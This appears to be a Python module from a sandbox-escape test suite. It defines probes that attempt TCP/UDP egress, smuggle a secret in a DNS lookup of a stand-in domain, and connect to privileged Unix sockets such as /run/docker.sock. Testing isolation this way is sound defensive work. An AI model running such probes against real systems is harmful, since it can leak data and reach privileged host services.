"""Calling out: by network, by name server, by sockets of this machine."""

from __future__ import annotations

from .base import (
    CANARY_ABSTRACT,
    CANARY_PORT,
    CANARY_SOCKET,
)
from .tools import hunts

ATTACKS = [
    hunts(
        "network-tcp",
        "connects to a server of this machine and to the internet, by TCP and UDP",
        f"""
import socket
for host, port in (("127.0.0.1", {CANARY_PORT}), ("::1", {CANARY_PORT}), ("1.1.1.1", 53)):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind) as out:
                out.settimeout(2)
                out.connect((host, port))
                out.send(b"hello from " + MARK.encode())
                if kind is socket.SOCK_STREAM:
                    loot = ESC + "connected to " + host
        except OSError as error:
            print(host, error)
""",
    ),
    hunts(
        "network-names",
        "sends a secret in the names that it asks the name server for",
        """
import socket
for name in ("lr-secret.example.org", "localhost", "pypi.org"):
    try:
        address = socket.getaddrinfo(name, 80)[0][4][0]
        if not address.startswith(("127.", "::1")):
            loot = ESC + "resolved " + name
    except OSError as error:
        print(name, error)
""",
    ),
    hunts(
        "network-unix",
        "connects to unix sockets in /tmp and /run and to abstract ones",
        f"""
import socket
places = ["{CANARY_SOCKET}", "\\0{CANARY_ABSTRACT}", "/run/docker.sock",
          "/run/dbus/system_bus_socket", "/run/systemd/private",
          *map(str, Path("/tmp").glob("*.sock"))]
try:
    places += [line.split()[-1].replace("@", "\\0") for line in open("/proc/net/unix")][1:200]
except OSError:
    pass
for place in places:
    try:
        with socket.socket(socket.AF_UNIX) as out:
            out.settimeout(1)
            out.connect(place)
            out.send(b"hello from " + MARK.encode())
            loot = ESC + "connected to " + repr(place)
    except OSError:
        pass
""",
    ),
]
